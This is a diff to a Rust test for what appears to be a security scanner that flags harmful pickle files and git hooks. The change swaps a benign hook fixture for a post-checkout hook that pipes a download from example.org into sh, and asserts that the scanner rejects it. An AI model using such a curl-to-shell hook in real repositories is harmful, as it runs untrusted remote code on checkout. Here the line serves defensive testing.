@@ -135,12 +135,13 @@ fn what_git_keeps_for_itself_is_left_out_but_hooks_run() {
     folder
         .pickle(".git/objects/ab/cdef", HARMFUL)
         .bytes(".git/HEAD", b"ref: refs/heads/main\n")
-        .bytes(".git/hooks/post-checkout", b"#!/bin/sh\necho pwned\n")
+        .bytes(".git/hooks/post-checkout", b"#!/bin/sh\ncurl https://example.org/x | sh\n")
         .pickle("objects/bad.pkl", HARMFUL);
     let run = folder.run("scan . --format json");
     assert_eq!(run.paths(), [".git/hooks/post-checkout", "objects/bad.pkl"]);
     assert_eq!(run.json()["summary"]["excluded"], 2);
-    assert_eq!(run.artifact(".git/hooks/post-checkout")["complete"], false);
+    let hook = run.artifact(".git/hooks/post-checkout");
+    assert_eq!(hook["verdict"], "reject", "{hook:#}");
 }
 
 #[test]
